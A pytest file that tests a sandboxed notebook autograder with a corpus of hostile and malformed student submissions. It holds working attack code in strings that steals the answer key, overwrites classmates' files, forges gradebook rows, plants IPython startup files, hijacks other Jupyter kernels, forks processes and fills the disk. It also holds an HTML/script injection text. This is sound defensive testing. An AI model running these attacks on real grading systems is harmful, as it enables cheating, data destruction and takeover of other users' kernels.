"""The grader against hostile and malformed submissions (issue 10): sandboxed, and no grade is ever lost.

One corpus, graded once with ``grade_folder(..., workers=2)``, holds

* A: one submission per attack from inside a kernel (read the instructor source and its answer key, read or
  overwrite a classmate's file, edit the gradebook, leave IPython startup files, leave a detached process,
  reach another kernel, forge the worker's report and kill it, rewrite the grader, open the network, fork and
  fill the disk, break the read-back record, print the grader's PID), each with correct answers to the
  other questions. An attack writes what it achieved into its own answer: ``compute_factor`` (Q3, 2 points)
  is right only when the attack worked, and -7 when it ran to the end and failed;
* B: malformed files (null source, cell without a type, JSON nested 100,000 deep, long, unpaired-
  surrogate and formula student fields, a Latin-1 file name, nbformat 3, a Markdown answer cell, two
  cells with one answer id, two students Zoë and Zoé);
* C: a pair graded at the same time (the first two files of the sorted batch start together) that
  attack each other's files and kernels while both run;
* E: a probe of the sandbox itself (user 65534, PID 1 is bubblewrap);
* F: answers that are not the student's own work in their own variant: ada's answers written as literal
  numbers, handed in by ada and by bob (who set ``STUDENT_ID`` to his id; with a roster, bob's file with
  ada's ``STUDENT_ID`` is bob's); numbers printed by a chapter or read from the public check table (the
  default variant's answers); the library's own ``training_flops``, ``transformer_params`` and
  ``fit_power_law``; an explanation (Q8, graded by hand) made of hostile text, which the manual-grading sheet
  must show as text.

Every student's numbers differ (Q3, Q4, Q5, Q7 are drawn per student id): the expected points of a case
that hands in numbers come from the answer key in the variant of the student its file is named after.
Q8 scores 0 ("needs manual grading") even when answered: its points are entered by hand.

Every file must end with exactly one row in the gradebook, with the expected status and points, and no
effect on any other file or on the machine (D: no folder left in the temporary directory, no pids
cgroup, no process). Rows are matched to files by SHA-256 (every file is unique), so a file name the
database cannot store still finds its row.

The submissions, the output and the sources folder (exercise 00's source and answer key, copied) live under
/var/tmp, not /tmp: the sandbox replaces /tmp as a whole, so only a folder elsewhere shows that the grader hides
its private folders explicitly.

``test_attacks_work_without_the_sandbox`` runs the read-only attacks with ``unsafe_no_sandbox=True`` and
shows that they then succeed: the assertions of the sandboxed run can fail.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import json
import os
import re
import secrets
import shutil
import signal
import socket
import sqlite3
import sys
import tempfile
import textwrap
import threading
import time
import unicodedata
from pathlib import Path
from typing import NamedTuple

import nbformat
import pytest
import support

import lectures_lib
import lectures_lib.grading.sandbox as sandbox_module
from lectures_lib.exercises import EXERCISES
from lectures_lib.exercises.core import public_checks, values_close
from lectures_lib.exercises.key import key_path, load_key
from lectures_lib.grading.grade import Limits, grade_folder, variant_of
from lectures_lib.grading.identity import load_roster
from lectures_lib.grading.release import HIDDEN_TAG, SOLUTION_TAG, TEST_TAG, make_student_copy
from lectures_lib.grading.sandbox import SandboxUnavailable

ROOT = Path(__file__).resolve().parents[1]
SOURCES = ROOT / "notebooks" / "exercises" / "source"
SOURCE_00 = (SOURCES / "00_power_laws.ipynb").resolve()
EXERCISE = "00_power_laws"
KEY_00 = key_path(SOURCES, EXERCISE).resolve()
KEY = load_key(SOURCES, EXERCISE)
PACKAGE = Path(lectures_lib.__file__).resolve().parent
SCORING = PACKAGE / "grading" / "scoring.py"
HOME = Path.home()
LIMITS = Limits(cell_seconds=20, submission_seconds=60, memory_bytes=3 * 1024**3)
TAG = "LECTURES_LIB_GRADING_TAG"  # the one variable the sandbox passes on
QUESTIONS = [q.qid for q in EXERCISES[EXERCISE].questions]
FULL = list(support.EX00_POINTS)  # every automatic point: Q8 is graded by hand
ZERO = [0] * 8
ATTACK_FAILED = [2, 2, 0, 3, 2, 3, 2, 0]  # the attack's witness (Q3) is -7: it ran and achieved nothing
STATUSES = {"graded", "timeout", "kernel died", "memory limit", "invalid notebook", "integrity check failed",
            "grader error"}

CORRECT = support.EX00_CORRECT
WRONG = support.EX00_WRONG
#: Q3's right answer in every variant, as the answer cells of the corpus compute it.
RIGHT_Q3 = "(1 / (1 - ex.q3.loss_cut)) ** (1 / ex.q3.exponent)"
assert CORRECT["q3"] == f"compute_factor = {RIGHT_Q3}" and FULL == [2, 2, 2, 3, 2, 3, 2, 0]
#: The student copy as ``make release`` makes it from the source (the file in notebooks/exercises/ when that is
#: up to date), so that the corpus follows the source.
STUDENT_COPY = json.loads(nbformat.writes(make_student_copy(nbformat.read(SOURCE_00, as_version=4), EXERCISE)))


def course_folder(parent: Path) -> Path:
    """A sources folder with exercise 00 only (its source and its answer key), as ``--source`` for the grader:
    the batch does not depend on the other exercises' sources, and the folder lies outside the checkout, so
    only the grader's own hiding of its source folder keeps it from the kernels."""
    folder = parent / "source"
    folder.mkdir()
    for path in (SOURCE_00, KEY_00):
        shutil.copyfile(path, folder / path.name)
    return folder


# -- building submissions ------------------------------------------------------------------------------
def notebook(case: str, answers: dict[str, str], student: str | None = None, student_id: str | None = None) -> dict:
    """The student copy as JSON with ``answers`` filled in, marked with ``case`` so that every file differs;
    ``student`` goes in the metadata's student field, ``student_id`` in the ``STUDENT_ID`` cell."""
    nb = json.loads(json.dumps(STUDENT_COPY))
    for cell in nb["cells"]:
        cid = cell.get("id", "")
        if cid.endswith("-answer") and cid.removesuffix("-answer") in answers:
            cell["source"] = answers[cid.removesuffix("-answer")]
        if cid == "student-id" and student_id is not None:
            cell["source"] = f"STUDENT_ID = {student_id!r}  # your student id, in quotes"
    nb["metadata"]["hostile_case"] = case
    if student is not None:
        nb["metadata"]["lectures_lib"]["student"] = student
    return nb


def text_of(nb: dict, ascii_only: bool = False) -> bytes:
    return json.dumps(nb, indent=1, ensure_ascii=ascii_only).encode("utf-8")


def attack_cell(body: str, **params) -> str:
    """Q3's cell: ``params`` as variables, then ``body`` (which sets ``hostile_ok`` when the attack worked,
    and may set ``hostile_value``), and the witness: Q3 is right only if the attack worked, else -7."""
    lines = [f"{name} = {value!r}" for name, value in params.items()]
    lines += ["hostile_ok = False", f"hostile_value = {RIGHT_Q3}", "try:",
              textwrap.indent(textwrap.dedent(body).strip("\n"), "    "),
              "except Exception as hostile_error:", "    hostile_problem = repr(hostile_error)",
              "compute_factor = hostile_value if hostile_ok else -7.0"]
    code = "\n".join(lines)
    compile(code, "<attack>", "exec")  # a typo here would look like a failed attack
    return code


def rebuilt_indices() -> dict[str, int]:
    """Index of each ``extract:qN`` cell in the notebook the worker runs (given and answer cells of the source,
    each answer followed by the grader's read-back cell), as grade.build_cells lays it out."""
    source = nbformat.read(SOURCE_00, as_version=4)
    index, found = 0, {}
    for cell in source.cells:
        tags = cell.metadata.get("tags", [])
        if cell.cell_type != "code" or TEST_TAG in tags or HIDDEN_TAG in tags:
            continue
        index += 1
        if SOLUTION_TAG in tags:
            found[cell.id.removesuffix("-answer")] = index
            index += 1
    return found


# -- the attacks (each is Q3's cell unless said otherwise) -----------------------------------------------
# A1: the instructor source (its solution cell), in the grader's --source folder and in the checkout
READ_SOURCE = """
import json
for path in H_SOURCES:
    try:
        with open(path) as handle:
            source = json.load(handle)
    except OSError:
        continue
    for cell in source["cells"]:
        if cell.get("id") == "q3-answer":
            stolen = {"ex": ex}
            exec("".join(cell["source"]), stolen)
            hostile_value = stolen["compute_factor"]
            hostile_ok = True
"""

# A1 (key): the answer key beside the source, which no longer ships with the package: run with runpy, it gives the
# expected answer in this student's own variant
READ_KEY = """
import runpy
for path in H_KEYS:
    try:
        key = runpy.run_path(path)["KEY"]
    except OSError:
        continue
    hostile_value = float(key.expected("q3", ex.variant))
    hostile_ok = True
"""

STEAL_AND_OVERWRITE = """
try:
    with open(H_CLASSMATE) as handle:
        hostile_ok = H_MARKER in handle.read()
except OSError:
    pass
if H_OVERWRITE:
    try:
        with open(H_CLASSMATE, "w") as handle:
            handle.write(H_WRONG_NOTEBOOK)
    except OSError:
        pass
"""

EDIT_GRADEBOOK = """
import os, sqlite3
if os.path.exists(H_DB):
    db = sqlite3.connect(H_DB, timeout=2)
    db.execute("SELECT COUNT(*) FROM grades").fetchone()
    hostile_ok = True  # it could read the other students' grades
    db.execute("DELETE FROM grades")
    db.execute("INSERT INTO grades (run_id, student, exercise, file_name, file_sha256, status, detail, points, "
               "max_points, total, max_total, seconds, graded_at) VALUES (1, ?, '00_power_laws', 'forged.ipynb', "
               "'', 'graded', '', '{}', '{}', 12, 12, 0, '')", (H_FORGED_STUDENT,))
    db.commit()
"""

STARTUP_FILES = """
import os, sys
code = "import numpy\\nnumpy.polyfit = lambda *args, **kwargs: (0.0, 0.0)\\n"
folders = [os.path.expanduser("~/.ipython/profile_default/startup"),
           os.path.join(os.environ.get("IPYTHONDIR", "/nonexistent"), "profile_default", "startup"),
           os.path.join(H_REAL_HOME, ".ipython", "profile_default", "startup")]
written = 0
for folder in folders:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, H_NAME + ".py"), "w") as handle:
            handle.write(code)
        written += 1
    except OSError:
        pass
# a kernel config in the environment's own config folder would run in every later kernel
try:
    folder = os.path.join(sys.prefix, "etc", "ipython")
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "ipython_kernel_config.py"), "a") as handle:
        handle.write("\\n# " + H_NAME + "\\nc.InteractiveShellApp.exec_lines = [" + repr(code) + "]\\n")
    hostile_ok = True
except OSError:
    pass
"""

DETACHED = """
import os, subprocess, sys
loop = ("import os, time\\n"
        "while True:\\n"
        "    for folder in ('/tmp', os.path.expanduser('~'), " + repr(H_BEACONS) + "):\\n"
        "        try:\\n"
        "            open(os.path.join(folder, " + repr(H_NAME) + " + '-beacon-%d' % os.getpid()), 'a').write('x')\\n"
        "        except OSError:\\n"
        "            pass\\n"
        "    time.sleep(0.2)\\n")
quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen([sys.executable, "-c", loop], start_new_session=True, **quiet)
# one more without the grader's environment (the survivor check finds it by its command line)
subprocess.Popen([sys.executable, "-c", loop, H_NAME], start_new_session=True, env={}, **quiet)
# and a double fork, re-parented to the namespace's init
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", loop, H_NAME])
    os._exit(0)
os.wait()
"""

# C (and A2, A6): the first two files of the batch run at the same time and attack each other for some
# seconds: read and overwrite the partner's file, look for the partner's kernel (connection files, every
# port of 127.0.0.1) and, if found, run code there that breaks the partner's Q4 and Q5.
PAIR = """
import glob, json, os, socket, time
PAIR_TOKEN = H_OWN_TOKEN
own_key = None
try:
    from ipykernel.connect import get_connection_file
    with open(get_connection_file()) as handle:
        own = json.load(handle)
    own_key = own.get("key")
    own_ports = {value for name, value in own.items() if name.endswith("_port")}
except Exception:
    own_ports = set()
patterns = [os.path.expanduser("~/.local/share/jupyter/runtime/*.json"), "/tmp/*.json", "/tmp/*/*.json",
            "/tmp/*/.runtime/*.json", "/tmp/*/*/.runtime/*.json", "/tmp/*/*/*/.runtime/*.json",
            os.path.join(H_REAL_HOME, ".local/share/jupyter/runtime/*.json"),
            os.path.join(os.environ.get("JUPYTER_RUNTIME_DIR", "/nonexistent"), "*.json"), "/var/tmp/*/*.json",
            "/dev/shm/*.json"]
found, stolen = set(), False
payload = ("if str(globals().get('PAIR_TOKEN', '')).startswith(" + repr(H_PAIR_PREFIX) + "):\\n"
           "    import numpy\\n    numpy.polyfit = lambda *args, **kwargs: (0.0, 0.0)\\n")
deadline = time.monotonic() + H_SECONDS
while time.monotonic() < deadline:
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                with open(path) as handle:
                    info = json.load(handle)
            except Exception:
                continue
            if not isinstance(info, dict) or "shell_port" not in info or info.get("key") == own_key:
                continue
            found.add(path)
            if H_EXECUTE:
                try:
                    from jupyter_client import BlockingKernelClient
                    client = BlockingKernelClient()
                    client.load_connection_info(info)
                    client.start_channels()
                    client.execute(payload)
                    time.sleep(0.5)
                    client.stop_channels()
                except Exception:
                    pass
    try:
        with open(H_PARTNER) as handle:
            stolen = stolen or H_PARTNER_MARKER in handle.read()
    except OSError:
        pass
    if H_OVERWRITE:
        try:
            with open(H_PARTNER, "w") as handle:
                handle.write(H_WRONG_NOTEBOOK)
        except OSError:
            pass
    time.sleep(0.2)
open_ports = []
if H_SCAN_PORTS:  # only inside the sandbox: its own empty network namespace
    # this kernel's own listening sockets (ipykernel has one more than its connection file names)
    mine = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            mine.add(os.readlink("/proc/self/fd/" + fd))
        except OSError:
            pass
    with open("/proc/self/net/tcp") as handle:
        for line in handle.read().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and "socket:[%s]" % fields[9] in mine:
                own_ports.add(int(fields[1].split(":")[1], 16))
    for port in range(1, 65536):
        if port in own_ports:
            continue
        probe = socket.socket()
        probe.settimeout(0.05)
        # a connection to itself (local port == remote port) is not another kernel
        if probe.connect_ex(("127.0.0.1", port)) == 0 and probe.getsockname()[1] != port:
            open_ports.append(port)
        probe.close()
hostile_ok = bool(found or stolen or open_ports)
"""

FORGE_AND_KILL = """
import fcntl, glob, json, os, re, time
nonce = None
for source in list(globals().get("In", [])):
    match = re.search(r"__grader_extract\\(('|\\")(.+?)\\1", source)
    if match:
        nonce = match.group(2)
lines = []
for index, record in H_FORGED.items():
    for guess in [nonce] if nonce else ["@@grader:" + "0" * 32 + "@@"]:
        lines.append(json.dumps({"type": "cell", "index": index, "errors": [], "timed_out": False,
                                 "stream": guess + json.dumps(record) + "\\n"}))
lines.append(json.dumps({"type": "end"}))
payload = ("\\n".join(lines) + "\\n").encode()
compute_factor = -7.0
for fd in range(1, 21):
    try:
        flags = fcntl.fcntl(fd, fcntl.F_GETFL)
        fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK)
        try:
            os.write(fd, payload)
        finally:
            fcntl.fcntl(fd, fcntl.F_SETFL, flags)
    except OSError:
        pass
pid = os.getpid()
for _ in range(4):  # the parent, grandparent, ... and their descriptors
    try:
        pid = int(open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
    for entry in glob.glob("/proc/%d/fd/*" % pid):
        try:
            fd = os.open(entry, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, payload)
            os.close(fd)
        except OSError:
            pass
os.kill(os.getppid(), 9)
time.sleep(5)
"""

REWRITE_GRADER = """
import os
targets = [H_SCORING] + sorted(os.path.join(folder, name) for folder, _, names in os.walk(H_PACKAGE) for name in names)
changed = 0
for path in targets:
    if not os.path.isfile(path):  # creating a file where the grader hid its package changes nothing
        continue
    try:
        with open(path, "a") as handle:
            if path.endswith(".py"):
                handle.write("\\n# " + H_NAME + "\\n")
        changed += 1
    except OSError:
        pass
hostile_ok = changed > 0
"""

NETWORK = """
import socket, time
# the kernel's own ports, open inside the sandbox's network namespace, are not the host's
own = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        for row in open(table).read().splitlines()[1:]:
            local, state = row.split()[1], row.split()[3]
            if state == "0A":  # listening
                own.add(int(local.rsplit(":", 1)[1], 16))
    except OSError:
        pass
reached = []
for port in [H_PORT] + (list(range(H_PORT - 20, H_PORT + 21)) if H_OUTSIDE else []):
    if port in own and port != H_PORT:
        continue
    try:
        socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
        reached.append(port)
    except OSError:
        pass
slow = False
if H_OUTSIDE:  # only inside the sandbox, where there is no route: it must fail at once
    started = time.monotonic()
    try:
        socket.create_connection(("10.0.0.1", 9), timeout=1).close()
        reached.append(9)
    except OSError:
        pass
    slow = time.monotonic() - started > 0.5
hostile_ok = bool(reached) or slow
"""

FORK_AND_FILL = """
import os, time
children, refused = 0, 0
deadline = time.monotonic() + 3
while time.monotonic() < deadline:
    try:
        pid = os.fork()
    except OSError:
        refused += 1
        time.sleep(0.01)
        continue
    if pid == 0:
        try:
            time.sleep(1)
        finally:
            os._exit(0)
    children += 1
    try:
        while os.waitpid(-1, os.WNOHANG)[0] > 0:
            pass
    except ChildProcessError:
        pass
try:
    while True:
        os.wait()
except ChildProcessError:
    pass
chunk = b"\\0" * (16 * 1024 * 1024)
full = []
for folder in ["/tmp", os.path.expanduser("~"), H_REAL_HOME, H_REAL_TMP, "/var/tmp"]:
    path = os.path.join(folder, H_NAME + "-big")
    written = 0
    try:
        with open(path, "wb") as handle:
            while written < 2 * 1024**3:
                handle.write(chunk)
                written += len(chunk)
    except OSError:
        pass
    full.append(written >= 2 * 1024**3)
hostile_ok = any(full) or refused == 0
"""

# A11: the record sent back has the wrong shape. In Q2's cell (a function): once, the list of outputs
# becomes a list of numbers; in Q5's cell (a value): the next record becomes a JSON list, and print writes the
# next line twice (each undoes itself after one use, so that only Q5's read-back is hit; Q6 to Q8 follow).
BAD_RECORD_FUNCTION = CORRECT["q2"] + """
import json
real_dumps = json.dumps
def hostile_dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and "outputs" in obj:
        json.dumps = real_dumps
        return real_dumps({"outputs": [1] * len(obj["outputs"])})
    return real_dumps(obj, *args, **kwargs)
json.dumps = hostile_dumps
"""
BAD_RECORD_VALUE = CORRECT["q5"] + """
import builtins, json
real_dumps, real_print = json.dumps, builtins.print
def hostile_dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and ({"shape", "data"} <= set(obj) or {"missing", "placeholder", "unreadable"} & set(obj)):
        json.dumps = real_dumps
        return real_dumps(["not", "a", "record"])
    return real_dumps(obj, *args, **kwargs)
def hostile_print(*args, **kwargs):
    builtins.print = real_print
    real_print(*args, **kwargs)
    real_print(*args, **kwargs)
json.dumps = hostile_dumps
builtins.print = hostile_print
"""
BAD_RECORD_SHAPE = """
import json
real_dumps = json.dumps
def hostile_dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and "shape" in obj:
        json.dumps = real_dumps
        return real_dumps({"shape": {"rows": 1}, "data": "1048576"})
    return real_dumps(obj, *args, **kwargs)
json.dumps = hostile_dumps
"""

GRADER_PID = """
import json, os
chain, pid = [], os.getpid()
for _ in range(10):
    try:
        pid = int(open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
    chain.append(pid)
    if pid <= 1:
        break
for pid in chain + [H_GRADER_PID, os.getpid(), 1]:
    print("kernel_pid: %d" % pid)
    print("kernel_pid=%d" % pid)
    print(json.dumps({"type": "kernel_pid", "kernel_pid": pid, "pid": pid}))
    print(json.dumps({"type": "event", "kind": "kernel died", "detail": "exited", "kernel_pid": pid}))
try:
    os.kill(H_GRADER_PID, 0)
    with open("/proc/%d/stat" % H_GRADER_PID) as handle:
        hostile_ok = handle.read().rsplit(")", 1)[1].split()[19] == H_GRADER_START
except OSError:
    pass
"""

# E: where does the kernel run? Q3 is right when the user is 65534, Q5 when PID 1 is the grader's worker
# (the sandbox runs it as its init) and the process list is that of a sandbox.
PROBE_UID = f"import os\ncompute_factor = {RIGHT_Q3} if os.getuid() == 65534 else float(os.getuid())"
PROBE_PID1 = CORRECT["q5"] + """
import os
with open("/proc/1/cmdline", "rb") as handle:
    pid1 = handle.read()
processes = [name for name in os.listdir("/proc") if name.isdigit()]
if not (b"NotebookClient" in pid1 and pid1 != H_HOST_PID1 and len(processes) < 20):
    predicted_loss = -1.0
"""


# -- F: answers that are not the student's own work in their own variant ---------------------------------------
EX00 = EXERCISES[EXERCISE]
ADA, BOB = variant_of(EX00, "ada"), variant_of(EX00, "bob")
DEFAULT_ANSWERS = public_checks(EXERCISE)["default"]  # the default variant's answers, shipped with the package
NUMBERS = ("q3", "q4", "q5", "q7")  # the answers that are numbers or a letter of the student's own variant


def literal_answers(variant) -> dict[str, str]:
    """Answers right in ``variant``, handed in as the literal numbers and letter that variant gives (the functions
    are right in every variant)."""
    expected = {qid: KEY.expected(qid, variant) for qid in NUMBERS}
    return {**CORRECT, "q3": f"compute_factor = {float(expected['q3'])!r}",
            "q4": f"fitted_exponent = {float(expected['q4'])!r}",
            "q5": f"predicted_loss = {float(expected['q5'])!r}",
            "q7": f"exponent_choice = {expected['q7']!r}"}


def agrees(qid: str, value, variant) -> bool:
    """Whether the answer ``value`` to ``qid`` is right in ``variant``, as the grader compares them."""
    question, right = EX00[qid], KEY.expected(qid, variant)
    if question.read_kind == "choice":
        return value == right
    return values_close(value, right, question.rtol, question.atol)


def points_of(answers: dict, variant) -> list[int]:
    """The points of FULL, less those of the questions in ``answers`` (qid -> the value handed in) that are wrong
    in ``variant``."""
    return [0 if q.qid in answers and not agrees(q.qid, answers[q.qid], variant) else points
            for q, points in zip(EX00.questions, FULL, strict=True)]


ADA_LITERAL = literal_answers(ADA)
ADA_VALUES = {qid: KEY.expected(qid, ADA) for qid in NUMBERS}
#: ada's literal answers scored in bob's variant: Q3, Q4 and Q5 wrong; Q7 too unless their right letters agree
ADA_LITERAL_AS_BOB = points_of(ADA_VALUES, BOB)
# numbers a chapter printed: 2**20, the factor that halves the loss at an exponent of 0.05 (the old Q3), and the
# default variant's predicted loss from the public check table, in a named student's notebook
CHAPTER_NUMBERS = {**CORRECT, "q3": "compute_factor = 2 ** 20  # the factor that halves the loss, from the chapter",
                   "q5": f"predicted_loss = {DEFAULT_ANSWERS['q5']!r}  # the number the check accepted"}
CHAPTER_POINTS = points_of({"q3": 2.0 ** 20, "q5": DEFAULT_ANSWERS["q5"]}, variant_of(EX00, "f_chapter_numbers"))
# the same table read in the kernel: the package has the default variant's answers, not the student's
PUBLIC_CHECKS = {**CORRECT,
                 "q3": "from lectures_lib.exercises.core import public_checks\n"
                       "table = public_checks('00_power_laws')['default']\ncompute_factor = table['q3']",
                 "q4": "fitted_exponent = table['q4']", "q5": "predicted_loss = table['q5']",
                 "q7": "exponent_choice = table['q7']"}
PUBLIC_CHECKS_POINTS = points_of(DEFAULT_ANSWERS, variant_of(EX00, "f_public_checks"))
# the library's own functions: Q1 and Q2 score 0 (if_forbidden="zero"), Q4 is only flagged
LIBRARY_FUNCTIONS = {**CORRECT,
                     "q1": "from lectures_lib.compute import training_flops as library_flops\n\n\n"
                           "def training_flops(n_params, n_tokens):\n    return library_flops(n_params, n_tokens)",
                     "q2": "import lectures_lib.compute as lc\ntransformer_params = lc.transformer_params",
                     "q4": "from lectures_lib.power_laws import fit_power_law\nlaw = fit_power_law(flops, loss)\n"
                           "fitted_exponent = law.exponent",
                     "q5": "predicted_loss = law(ex.q5.predict_at_flops)"}
LIBRARY_FLAGS = {f"{qid.upper()}: used {name} (the library's own implementation): please review"
                 for qid, name in (("q1", "lectures_lib.compute.training_flops"),
                                   ("q2", "lectures_lib.compute.transformer_params"),
                                   ("q4", "lectures_lib.power_laws.fit_power_law"))}
# an explanation (Q8) made to break the manual-grading sheet: Markdown, fences of backticks and tildes (the longest
# shown run is 41, indented, a run of 5 once a control character between backticks is dropped), HTML, control and
# bidirectional characters, other line separators, then 50 kB in all, with a run of 300 backticks past the part
# the sheet shows
HOSTILE_TEXT_HEAD = (
    "HOSTILE-TEXT-BEGIN\n```\n# Not a heading of the sheet\n## Q8: 2 / 2 points, says the student\n"
    "[a link](http://evil.example/login) <script>alert(1)</script> <img src=x onerror=alert(1)> **bold**\n"
    "| a | table |\n|---|---|\n~~~\n" + "`" * 40 + "\n   " + "`" * 41 + "  \n``\x00``\x07`\n"
    "\x1b[31mred\x1b[0m \x7f\x08\x0b\x0c\r\n\r\u202eevil\u202c \u2066x\u2069\x85\u2028\n```text\n"
    "HOSTILE-TEXT-END\n")
HOSTILE_TEXT = HOSTILE_TEXT_HEAD + ("x" * 99 + "\n") * 80 + "`" * 300 + "\n" + ("y" * 99 + "\n") * 420
assert 50_000 <= len(HOSTILE_TEXT) <= 51_000
HOSTILE_EXPLANATION = {**CORRECT, "q8": f"extrapolation_risks = {HOSTILE_TEXT!r}"}
# 50,000 characters outside the Basic Multilingual Plane, 12 characters each once escaped in JSON: the kernel sends
# a prefix short enough for the read-back line (a regression: the nonce was once cut off)
EMOJI_EXPLANATION = {**CORRECT, "q8": 'extrapolation_risks = "\\U0001F642" * 50_000'}

def host_pid1() -> bytes:
    return Path("/proc/1/cmdline").read_bytes()


def start_time(pid: int) -> str:
    return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[19]


def forged_records(student: str) -> dict[int, dict]:
    """The lines a forger would want the grader to read: full marks for Q3, Q4, Q5 and Q7 in ``student``'s
    variant (the right answers, from the key, which the forger does not have: the best case for the attack)."""
    variant, where = variant_of(EXERCISES[EXERCISE], student), rebuilt_indices()
    forged = {where[qid]: {"shape": [], "data": [float(KEY.expected(qid, variant))]} for qid in ("q3", "q4", "q5")}
    return {**forged, where["q7"]: {"choice": KEY.expected("q7", variant)}}


# -- the corpus ------------------------------------------------------------------------------------------
class Case(NamedTuple):
    file: str | bytes  # the file name (bytes: not UTF-8)
    content: bytes
    outcomes: tuple[tuple[str, list[int] | None], ...]  # the accepted (status, points); None: any points


class Context(NamedTuple):
    token: str
    base: Path
    submissions: Path
    out: Path
    beacons: Path
    listener_port: int
    sources: Path  # the --source folder of the grading (see course_folder)


def corpus(ctx: Context, *, sandboxed: bool = True) -> dict[str, Case]:
    """Every file of the batch by case name. Without the sandbox only read-only attacks are built."""
    name = f"hostile-{ctx.token}"
    sub = ctx.submissions
    wrong_text = text_of(notebook("overwritten", WRONG)).decode()
    cases: dict[str, Case] = {}

    def add(case: str, answers: dict, outcomes, student=None, file=None):
        cases[case] = Case(file or f"{case}.ipynb", text_of(notebook(case, answers, student)), tuple(outcomes))

    def with_q3(body: str, **params) -> dict:
        return {**CORRECT, "q3": attack_cell(body, **params)}

    pair = {"x": "a00_pair_x", "y": "a00_pair_y"}
    for me, other in (("x", "y"), ("y", "x")):
        # without the sandbox the pair looks only for connection files (its witness then shows only those)
        partner = str(sub / f"{pair[other]}.ipynb") if sandboxed else "/nonexistent"
        add(pair[me], with_q3(PAIR, H_OWN_TOKEN=f"{ctx.token}-{me}", H_PAIR_PREFIX=ctx.token,
                              H_REAL_HOME=str(HOME), H_PARTNER=partner,
                              H_PARTNER_MARKER=f'"hostile_case": "{pair[other]}"', H_WRONG_NOTEBOOK=wrong_text,
                              H_SECONDS=6 if sandboxed else 4, H_EXECUTE=sandboxed, H_OVERWRITE=sandboxed,
                              H_SCAN_PORTS=sandboxed),
            [("graded", ATTACK_FAILED)])
    add("a01_read_source", with_q3(READ_SOURCE, H_SOURCES=[str(ctx.sources / SOURCE_00.name), str(SOURCE_00)]),
        [("graded", ATTACK_FAILED)])
    add("a01_read_key", with_q3(READ_KEY, H_KEYS=[str(ctx.sources / KEY_00.name), str(KEY_00)]),
        [("graded", ATTACK_FAILED)])
    add("a02_steal_classmate", with_q3(STEAL_AND_OVERWRITE, H_CLASSMATE=str(sub / "z02_classmate.ipynb"),
                                       H_MARKER='"hostile_case": "z02_classmate"', H_WRONG_NOTEBOOK=wrong_text,
                                       H_OVERWRITE=sandboxed),
        [("graded", ATTACK_FAILED)])
    add("z02_classmate", CORRECT, [("graded", FULL)])
    add("a09_network", with_q3(NETWORK, H_PORT=ctx.listener_port, H_OUTSIDE=sandboxed), [("graded", ATTACK_FAILED)])
    add("a12_grader_pid", with_q3(GRADER_PID, H_GRADER_PID=os.getpid(), H_GRADER_START=start_time(os.getpid())),
        [("graded", ATTACK_FAILED)])
    add("e_sandbox_probe", {**CORRECT, "q3": PROBE_UID, "q5": PROBE_PID1.replace("H_HOST_PID1", repr(host_pid1()))},
        [("graded", FULL)])
    if not sandboxed:
        return cases

    add("a03_edit_gradebook", with_q3(EDIT_GRADEBOOK, H_DB=str(ctx.out / "gradebook.sqlite"),
                                      H_FORGED_STUDENT=f"forged-{ctx.token}"),
        [("graded", ATTACK_FAILED)])
    add("a04_startup_files", with_q3(STARTUP_FILES, H_NAME=f"00-{name}", H_REAL_HOME=str(HOME)),
        [("graded", ATTACK_FAILED)])
    add("z04_victim", CORRECT, [("graded", FULL)])
    add("a05_detached_process", with_q3(DETACHED, H_NAME=name, H_BEACONS=str(ctx.beacons)),
        [("graded", ATTACK_FAILED)])
    # killed with its worker: answers read before count; if the kill failed, graded on its own values; on a busy
    # machine the cell can also outlive its time limit (seen once in a full run): the same answers count
    add("a07_forge_and_kill", with_q3(FORGE_AND_KILL, H_FORGED=forged_records("a07_forge_and_kill")),
        [("kernel died", [2, 2, 0, 0, 0, 0, 0, 0]), ("timeout", [2, 2, 0, 0, 0, 0, 0, 0]), ("graded", ATTACK_FAILED)])
    add("a08_rewrite_grader", with_q3(REWRITE_GRADER, H_SCORING=str(SCORING), H_PACKAGE=str(PACKAGE), H_NAME=name),
        [("graded", ATTACK_FAILED)])
    add("a10_fork_and_fill", with_q3(FORK_AND_FILL, H_NAME=name, H_REAL_HOME=str(HOME),
                                     H_REAL_TMP=tempfile.gettempdir()),
        [("graded", ATTACK_FAILED)])
    add("a10z_next", CORRECT, [("graded", FULL)])
    bad = [2, 0, 2, 3, 2, 3, 2, 0]
    add("a11_bad_record_function", {**CORRECT, "q2": BAD_RECORD_FUNCTION},
        [("graded", bad), ("integrity check failed", bad)])
    bad = [2, 2, 2, 3, 0, 3, 2, 0]
    add("a11_bad_record_value", {**CORRECT, "q5": BAD_RECORD_VALUE},
        [("graded", bad), ("integrity check failed", bad)])
    bad = [2, 2, 0, 3, 2, 3, 2, 0]
    add("a11_bad_record_shape", {**CORRECT, "q3": CORRECT["q3"] + "\n" + BAD_RECORD_SHAPE},
        [("graded", bad), ("integrity check failed", bad)])

    # B: malformed files
    def raw(case: str, content: bytes, outcomes, file=None):
        cases[case] = Case(file or f"{case}.ipynb", content, tuple(outcomes))

    def edited(case: str, edit, answers=CORRECT, student=None, ascii_only=False) -> bytes:
        nb = notebook(case, answers, student)
        edit(nb)
        return text_of(nb, ascii_only)

    def cell(nb: dict, cid: str) -> dict:
        return next(c for c in nb["cells"] if c.get("id") == cid)

